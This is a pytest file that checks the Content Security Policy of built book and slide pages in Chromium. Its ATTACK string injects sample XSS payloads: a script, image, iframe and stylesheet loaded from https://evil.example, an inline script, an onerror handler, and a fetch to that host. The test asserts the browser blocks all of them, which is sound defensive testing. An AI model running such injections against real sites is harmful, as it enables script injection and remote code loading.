"""The content security policy of every page, in Chromium: nothing foreign loads or runs, and all of ours does."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from books import CONFIG, cell, open_book, write_book
from playwright.sync_api import BrowserContext, Page
from static_host import served

from d2lbook.cli import main
from d2lbook.editions import Edition
from d2lbook.export.deploy.pages import not_found

TEXT = "Goal.\n\n[**First**] we say $x_1$.\n\nWhat the speaker says.\n\n" + cell("print(1)") + "\n[**Last**]\n\nEnd.\n"
POLICY = "Content Security Policy"
SOURCE = "https://comments.example"
# Tries what a page must not do; what the browser said of each.
ATTACK = """async (addresses) => {
  const refused = [];
  document.addEventListener("securitypolicyviolation", (event) => refused.push(event.effectiveDirective));
  const add = (tag, values) => document.body.append(Object.assign(document.createElement(tag), values));
  add("img", { src: addresses[0] + "/a.png" });
  add("script", { src: addresses[0] + "/a.js" });
  add("script", { textContent: "window.ran = true" });
  add("iframe", { src: addresses[0] + "/" });
  add("link", { rel: "stylesheet", href: addresses[0] + "/a.css" });
  add("div", { innerHTML: `<img src='' onerror='window.ran = true'>` });
  await fetch(addresses[0] + "/").catch(() => {});
  await new Promise((resolve) => setTimeout(resolve, 300));
  return [refused.map((name) => name.split("-").slice(0, 2).join("-")).sort(), Boolean(window.ran)];
}"""
PAGES = ["html/page.html", "html/404.html", "slides/en/default/page.html", "slides/en/index.html"]
REFUSED = ["connect-src", "frame-src", "img-src", "script-src", "script-src", "script-src", "style-src"]


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("policy") / "book"
    write_book(root, {"page": TEXT}, f"{CONFIG}eval_notebook = false\n")
    config = str(root / "config.ini")
    assert main(["html", "--config", config]) == 0 and main(["slides", "--config", config]) == 0
    book, loaded = open_book(root)
    (root / "_build" / "html" / "404.html").write_text(not_found([Edition(book, loaded)]))
    return root / "_build"


@pytest.fixture(scope="module")
def places(built: Path) -> Iterator[dict[str, str]]:
    with served(built) as address:
        yield {"http": address, "file": built.as_uri()}


@pytest.fixture
def seen(reader: Callable[..., BrowserContext]) -> tuple[Page, list[str]]:
    """A page, and what the browser refuses there and in the windows that it opens."""
    said: list[str] = []
    context = reader()
    context.on("console", lambda message: said.append(message.text) if POLICY in message.text else None)
    return context.new_page(), said


@pytest.mark.parametrize("way", ["http", "file"])
@pytest.mark.parametrize("name", PAGES)
def test_nothing_foreign_loads_or_runs(
    seen: tuple[Page, list[str]], places: dict[str, str], way: str, name: str
) -> None:
    page, said = seen
    page.goto(f"{places[way]}/{name}")
    page.wait_for_load_state("networkidle")
    assert said == []
    assert page.evaluate(ATTACK, ["https://evil.example"]) == [REFUSED, False]


@pytest.mark.parametrize("way", ["http", "file"])
def test_the_speakers_window_shows_notes_and_both_slides(
    seen: tuple[Page, list[str]], places: dict[str, str], way: str
) -> None:
    page, said = seen
    page.goto(f"{places[way]}/slides/en/default/page.html")
    page.wait_for_function("window.Reveal && Reveal.isReady()")
    with page.expect_popup() as opened:
        page.keyboard.press("s")
    window = opened.value
    page.keyboard.press("ArrowRight")
    window.locator(".speaker-controls-notes .value", has_text="What the speaker says.").wait_for()
    for frame in ("#current-slide iframe", "#upcoming-slide iframe"):
        window.frame_locator(frame).locator("section.present").wait_for()
    assert said == []
    assert window.evaluate(ATTACK, ["https://evil.example"]) == [REFUSED, False]


def test_the_configuration_names_who_else_may_bring_something(tmp_path: Path) -> None:
    write_book(tmp_path, {"page": TEXT}, f"{CONFIG}eval_notebook = false\n[html]\ncontent_sources = {SOURCE}\n")
    config = str(tmp_path / "config.ini")
    assert main(["html", "--config", config]) == 0 and main(["slides", "--config", config]) == 0
    for name in ("html/page.html", "slides/en/default/page.html", "slides/en/index.html"):
        text = (tmp_path / "_build" / name).read_text()
        assert f"default-src &#39;self&#39; {SOURCE};" in text or f"default-src &#x27;self&#x27; {SOURCE};" in text
